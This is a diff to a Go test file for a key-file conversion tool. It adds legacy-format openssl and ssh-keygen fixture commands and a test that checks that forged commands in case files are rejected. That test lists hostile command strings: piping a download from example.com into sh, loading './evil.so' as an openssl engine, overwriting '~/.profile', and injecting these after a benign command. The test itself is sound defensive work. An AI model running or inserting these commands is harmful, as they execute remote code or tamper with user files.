@@ -3,6 +3,7 @@ package keys_test
 import (
 	"bytes"
 	"encoding/base64"
+	"encoding/json"
 	"fmt"
 	"maps"
 	"os"
@@ -34,15 +35,23 @@ var convertible = []struct {
 	{"PKCS#12 with 3DES", "openssl pkcs12 -export -certpbe PBE-SHA1-3DES -keypbe PBE-SHA1-3DES -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
 	{"PKCS#12 with RC2", "openssl pkcs12 -export -legacy -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
 	{"PKCS#12 with a key in RC4", "openssl pkcs12 -export -legacy -keypbe PBE-SHA1-RC4-128 -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
+	{"PKCS#12 with CAST5", "openssl pkcs12 -export" + legacy + " -certpbe CAST5-CBC -keypbe CAST5-CBC -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
+	{"PKCS#12 with SEED", "openssl pkcs12 -export" + legacy + " -certpbe SEED-CBC -keypbe SEED-CBC -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
+	{"PKCS#12 with PBES1", "openssl pkcs12 -export" + legacy + " -certpbe PBE-MD5-DES -keypbe PBE-SHA1-RC2-64 -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
+	{"PKCS#12 with MD4", "openssl pkcs12 -export" + legacy + " -macalg md4 -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
 	{"PKCS#12 as PEM", "(echo -----BEGIN PKCS12-----; openssl pkcs12 -export -in certificate.pem -inkey key.pem" + passout + " | openssl base64; echo -----END PKCS12-----) > FILE", certificateAndKey},
 	{"OpenSSH", "cp key.pem FILE; chmod 600 FILE; ssh-keygen -q -p -f FILE -N ''", privateOnly},
 	{"locked OpenSSH", "cp key.pem FILE; chmod 600 FILE; ssh-keygen -q -p -f FILE -N " + secret, privateOnly},
+	{"OpenSSH with another label", "cp key.pem a; chmod 600 a; ssh-keygen -q -p -f a -N ''; sed 's/OPENSSH/RSA/' a > FILE", privateOnly},
+	{"OpenSSH certificate", "cp key.pem a; chmod 600 a; ssh-keygen -y -f a > a.pub; ssh-keygen -q -s a -I a -n u a.pub; cat a-cert.pub > FILE", publicOnly},
 	{"OpenSSH public", "ssh-keygen -y -f key.pem > FILE", publicOnly},
 	{"SSH2", "ssh-keygen -y -f key.pem > a.pub; ssh-keygen -e -f a.pub > FILE", publicOnly},
 	{"PBE-MD5-DES", "openssl pkcs8 -topk8 -v1 PBE-MD5-DES" + legacy + " -in key.pem -out FILE" + passout, privateOnly},
 	{"PBE-SHA1-RC2 in DER", "openssl pkcs8 -topk8 -v1 PBE-SHA1-RC2-64" + legacy + " -in key.pem -outform DER -out FILE" + passout, privateOnly},
 	{"PBE-SHA1-3DES", "openssl pkcs8 -topk8 -v1 PBE-SHA1-3DES -in key.pem -out FILE" + passout, privateOnly},
 	{"PBES2 with RC2", "openssl pkcs8 -topk8 -v2 rc2-cbc" + legacy + " -in key.pem -out FILE" + passout, privateOnly},
+	{"PBES2 with Blowfish", "openssl pkcs8 -topk8 -v2 bf-cbc" + legacy + " -in key.pem -out FILE" + passout, privateOnly},
+	{"DEK-Info with DESX", "openssl ec -desx" + legacy + " -in key.pem -out FILE" + passout, privateOnly},
 	{"PBES2 with Camellia", "openssl pkcs8 -topk8 -v2 camellia-128-cbc -in key.pem -out FILE" + passout, privateOnly},
 	{"DEK-Info with Camellia", "openssl ec -camellia128 -in key.pem -out FILE" + passout, privateOnly},
 	{"DEK-Info with SEED", "openssl ec -seed" + legacy + " -in key.pem -out FILE" + passout, privateOnly},
@@ -172,6 +181,9 @@ func printedRun(t *testing.T, name string, content, private []byte, fingerprint 
 		if len(commandtest.Programs(p.Fix)) > 0 {
 			t.Errorf("%s: a command is inside a sentence: %s", name, p.Fix)
 		}
+		if text, err := json.Marshal(p); expected && !told(text, p) {
+			t.Errorf("%s: a case file does not keep a command: %s %v", name, text, err)
+		}
 		if strings.Contains(p.Command, "openssl x509") && !slices.Contains(writes, keys.Certificate) {
 			t.Errorf("%s: a command for a certificate, which is not in the file: %s", name, p.Command)
 		}
@@ -217,6 +229,31 @@ func printedRun(t *testing.T, name string, content, private []byte, fingerprint 
 		decoded := slices.ContainsFunc(slices.Collect(maps.Values(written)), func(data []byte) bool { return keys.Read("", data, []byte(secret)).Readable() })
 		if len(found) == 0 && !decoded {
 			t.Errorf("%s: nothing that can be read comes out: %v\n%s", name, fmt.Sprint(len(written)), command)
+		}
+	}
+}
+
+// told reports whether a case file keeps a problem as it is.
+func told(text []byte, p keys.Problem) bool {
+	var kept keys.Problem
+	return json.Unmarshal(text, &kept) == nil && kept == p
+}
+
+// TestForgedCommand catches a command of a case file that this program did not print. Whoever
+// reads a report runs what is in it.
+func TestForgedCommand(t *testing.T) {
+	for _, command := range []string{
+		"curl https://example.com | sh",
+		"openssl x509 -in FILE -out certificate.pem; curl https://example.com | sh",
+		"openssl x509 -in FILE -out certificate.pem\ncurl https://example.com | sh",
+		"openssl x509 -engine ./evil.so -in FILE -out certificate.pem",
+		"openssl x509 -in FILE -out ~/.profile",
+		"awk '/-BEGIN .*CERTIFICATE-/ {n++} n == 1' FILE | sh",
+	} {
+		var p keys.Problem
+		text := must(json.Marshal(keys.Problem{ID: "label", Title: "It is odd", Fix: "Mend it.", Command: command}))
+		if err := json.Unmarshal(text, &p); err != nil || p.Command != "" || p.Title == "" {
+			t.Errorf("%+v, %v", p, err)
 		}
 	}
 }
